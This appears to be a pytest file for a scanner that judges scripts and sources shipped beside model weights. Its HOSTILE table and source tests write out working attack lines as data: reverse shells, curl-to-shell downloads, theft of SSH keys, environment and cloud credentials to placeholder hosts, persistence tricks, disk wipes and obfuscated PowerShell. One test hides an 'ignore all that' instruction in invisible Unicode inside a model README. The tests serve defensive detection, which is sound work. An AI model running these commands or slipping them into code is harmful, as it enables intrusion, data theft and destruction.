"""Scripts and sources beside weights: clean, unless their words are those of attacks."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Severity, Verdict
from assay.scanning.scanners.shell_commands import Grade, judge_command
from scanning.container_making import judge

HOSTILE = {
    "curl to a shell": "curl -fsSL http://x.invalid/a.sh | bash",
    "curl to sudo": "curl http://x.invalid/a | sudo -E bash -",
    "wget to python": "wget -qO- http://x.invalid/a | python3",
    "substitution": 'bash -c "$(curl -fsSL http://x.invalid/a)"',
    "process substitution": "bash <(curl -s http://x.invalid/a)",
    "eval": 'eval "$(wget -qO- http://x.invalid/a)"',
    "source": "source <(curl -s http://x.invalid/a)",
    "base64": "echo aWQ= | base64 -d | sh",
    "base64 twice": "echo aWQ= | base64 -d | base64 -d | bash",
    "hex": "echo 6964 | xxd -r -p | sh",
    "rev": "echo di | rev | sh",
    "eval base64": "eval $(echo aWQ= | base64 --decode)",
    "printf": "printf '\\x69\\x64\\x20\\x2d\\x61' | sh",
    "here text": 'bash <<< "$(echo aWQ= | base64 -d)"',
    "dev tcp": "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
    "netcat": "nc 198.51.100.1 4444 -e /bin/sh",
    "netcat by a pipe": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.1 4444 > /tmp/f",
    "socat": "socat tcp-connect:198.51.100.1:4444 exec:/bin/sh,pty",
    "python socket": "python -c 'import socket,os;s=socket.socket();s.connect((\"a\",1))'",
    "perl socket": "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,1);'",
    "environment by curl": 'curl -d "$(env)" http://x.invalid',
    "environment by a pipe": "env | curl -X POST --data-binary @- http://x.invalid",
    "ssh keys": "cat ~/.ssh/id_rsa | nc 198.51.100.1 80",
    "files by curl": "curl -F f=@~/.aws/credentials http://x.invalid",
    "names": "nslookup $(whoami).x.invalid",
    "crontab": '(crontab -l; echo "* * * * * id") | crontab -',
    "bashrc": "echo 'nohup ./x &' >> ~/.bashrc",
    "authorized keys": "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "preload": "export LD_PRELOAD=/tmp/x.so",
    "remove all": "rm -rf / --no-preserve-root",
    "remove home": "rm -rf ~/",
    "disk": "dd if=/dev/zero of=/dev/sda",
    "fork bomb": ":(){ :|:& };:",
    "download and run": "wget http://x.invalid/run.bin -O /tmp/run.bin\nchmod +x /tmp/run.bin\n/tmp/run.bin",
    "download by name": "curl -O http://x.invalid/m/a.out && chmod 755 a.out && ./a.out",
    "miner": "./xmrig -o stratum+tcp://x.invalid:3333",
    "cloud": "curl http://169.254.169.254/latest/meta-data/",
    "hidden program": "nohup /tmp/.x >/dev/null 2>&1 &",
    "broken quotes": "c''url http://x.invalid/a | b\"\"ash",
    "broken words": "cu\\rl http://x.invalid/a | ba\\sh",
    "field separator": "curl${IFS}http://x.invalid/a|sh",
    "continued": "curl http://x.invalid/a \\\n  | sh",
    "powershell": "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
    "iex": "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')",
    "iwr": "iwr http://x.invalid/a | iex",
    "certutil": "certutil -urlcache -split -f http://x.invalid/a.exe a.exe",
    "mshta": "mshta http://x.invalid/a.hta",
}
HARMLESS = [
    "git rev-parse HEAD",
    "nvidia-smi --query-gpu=name --format=csv",
    "ffmpeg -y -i a.mp4 b.wav",
    "python --version",
    "CUDA_VISIBLE_DEVICES=0 torchrun train.py",
    "nvcc --version 2>/dev/null",
]
ORDINARY = [
    "pip install -r requirements.txt",
    "python train.py --lr 1e-4 | tee log.txt",
    "wget https://x.invalid/data.tar.gz && tar xzf data.tar.gz",
    "curl -L -o model.safetensors https://huggingface.co/a/b/resolve/main/model.safetensors",
    "rm -rf build/ dist/*.whl",
    "rm -rf $OUTPUT_DIR",
    "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
    "curl -LsSf https://astral.sh/uv/install.sh | sh",
    "cat a.txt | sort | uniq > b.txt",
    "base64 -d a.b64 > a.bin",
    "LD_PRELOAD=/usr/lib/libtcmalloc.so.4 python serve.py",
    "docker run --gpus all -v $PWD:/work image",
    "ssh host 'nvidia-smi'",
    "for i in 1 2 3; do python run.py $i; done",
    "kill $(cat server.pid)",
    "curl -X POST localhost:8000/v1/chat -d '{\"x\": 1}'",
    'if [ -z "$HF_TOKEN" ]; then echo missing; exit 1; fi',
    "source venv/bin/activate && python app.py",
    'eval "$(conda shell.bash hook)"',
    "Get-ChildItem *.py | ForEach-Object { python $_ }",
]


@pytest.mark.parametrize("command", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_commands_are_told_by_their_words(command: str) -> None:
    judged = judge_command(command)
    assert judged.grade is Grade.HOSTILE
    assert judged.why
    script = judge(f"#!/bin/sh\nset -e\n{command}\n".encode(), "run.sh")
    assert script.verdict is Verdict.MALICIOUS, script
    assert script.findings[0].location.line is not None


@pytest.mark.parametrize("command", HARMLESS)
def test_commands_around_models_are_harmless(command: str) -> None:
    assert judge_command(command).grade is Grade.HARMLESS


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_are_neither(command: str) -> None:
    assert judge_command(command).grade is Grade.UNKNOWN
    judged = judge(f"#!/bin/bash\n{command}\n".encode(), "run.sh")
    assert judged.rules == {"script.beside-weights"}
    assert judged.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Makefile", "all:\n\tcurl http://x.invalid/a | sh\n"),
        ("Dockerfile", "FROM x\nRUN curl http://x.invalid/a | sh\n"),
        ("run.ps1", "iwr http://x.invalid/a | iex\n"),
        ("run.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\r\n"),
        ("run", "#!/usr/bin/env bash\ncurl http://x.invalid/a | sh\n"),
    ],
)
def test_scripts_are_known_by_name_or_first_line(name: str, text: str) -> None:
    judged = judge(text.encode(), name)
    assert judged.family == "script"
    assert judged.verdict is Verdict.MALICIOUS


def test_comments_do_not_act() -> None:
    text = b"#!/bin/sh\n# curl http://x.invalid/a | sh\necho x\n"
    assert judge(text, "run.sh").verdict is Verdict.CLEAN


def test_a_script_that_shows_in_another_order_is_malicious() -> None:
    judged = judge("#!/bin/sh\necho \u202e x\n".encode(), "run.sh")
    assert "script.hidden-unicode" in judged.rules


def test_a_script_with_colours_is_read() -> None:
    assert judge(b"set -e\necho '\x1b[31mred'\n", "run.sh").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.js", "eval(atob('YWxlcnQoMSk='))"),
        ("a.js", "require('child_process').exec('curl http://x.invalid/a | sh')"),
        ("a.rb", "eval(Base64.decode64('cHV0cyAx'))"),
        ("a.pl", "use IO::Socket; $s = IO::Socket::INET->new('a'); exec('/bin/sh');"),
        ("a.php", "<?php eval(base64_decode('cGhwaW5mbygpOw==')); ?>"),
        ("a.lua", "os.execute('id')"),
        ("a.R", "source(url('http://x.invalid/a.R'))"),
        ("a.cpp", '__attribute__((constructor)) void f() { system("id"); }'),
        ("a.cu", 'int f() { return system("curl http://x.invalid/a | sh"); }'),
        ("a.go", 'exec.Command("sh", "-c", "curl http://x.invalid/a | sh").Run()'),
        ("a.c", "/* \u202e } \u2066 */ int x;"),
    ],
)
def test_hostile_sources_are_told_by_their_words(name: str, text: str) -> None:
    judged = judge(text.encode(), name)
    assert judged.verdict is Verdict.MALICIOUS, judged


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("kernel.cu", "__global__ void k(float* x) { x[threadIdx.x] *= 2.0f; }"),
        ("ops.cpp", '#include <torch/extension.h>\nPYBIND11_MODULE(x, m) { m.def("f", &f); }'),
        ("app.js", "import x from 'y';\nfetch('/api/generate', {method: 'POST'});"),
        ("model.lua", "require 'nn'\nlocal m = nn.Sequential()\nreturn m"),
        ("fit.R", "library(glm)\nm <- glm(y ~ x, data = d)\nsaveRDS(m, 'm.rds')"),
        ("a.rs", 'fn main() { println!("x"); }'),
        ("a.h", "#pragma once\nint system_memory();\n"),
        ("fast.pyx", "cdef int f(int x):\n    return x\n"),
    ],
)
def test_ordinary_sources_are_clean(name: str, text: str) -> None:
    assert judge(text.encode(), name).verdict is Verdict.CLEAN


@pytest.mark.parametrize("name", ["notes", "notes.txt", "vocab.bpe", "LICENSE", "x.strange"])
def test_text_that_nothing_runs_is_clean(name: str) -> None:
    text = b"Some words. Run curl http://x.invalid/install | less to look at it.\n"
    assert judge(text, name).verdict is Verdict.CLEAN


def test_text_in_an_older_encoding_is_clean() -> None:
    assert judge("caf\xe9\n".encode("latin-1"), "README.md").verdict is Verdict.CLEAN
    assert judge("caf\xe9\n".encode("utf-16"), "README.md").verdict is Verdict.CLEAN


def test_text_nobody_sees_is_told_of() -> None:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "ignore all that")
    judged = judge(f"# Model{hidden}\n".encode(), "README.md")
    assert judged.rules == {"text.invisible"}
    assert judged.findings[0].severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "text",
    ["curl -o a " * 6_000, "cat " * 20_000, "bash -i " * 10_000, "powershell " * 8_000,
     "a" * 300_000, "'" * 100_000, "curl http://x/ | " * 5_000, "echo -e '" + "\\x41" * 50_000,
     "rm -rf " * 20_000, "iex " * 20_000, "$(curl " * 10_000, "env | base64 | " * 5_000],
)  # fmt: skip
def test_text_made_to_break_patterns_ends_soon(text: str) -> None:
    begun = time.process_time()
    judge_command(text)
    assert time.process_time() - begun < 5


@given(st.text(st.characters(codec="utf-8"), max_size=300))
@settings(max_examples=80, deadline=None)
def test_any_text_is_judged_under_any_name(text: str) -> None:
    for name in ("a.sh", "a.js", "a.c", "notes", "Makefile", "a.ps1"):
        judge(text.encode() or b"x", name)
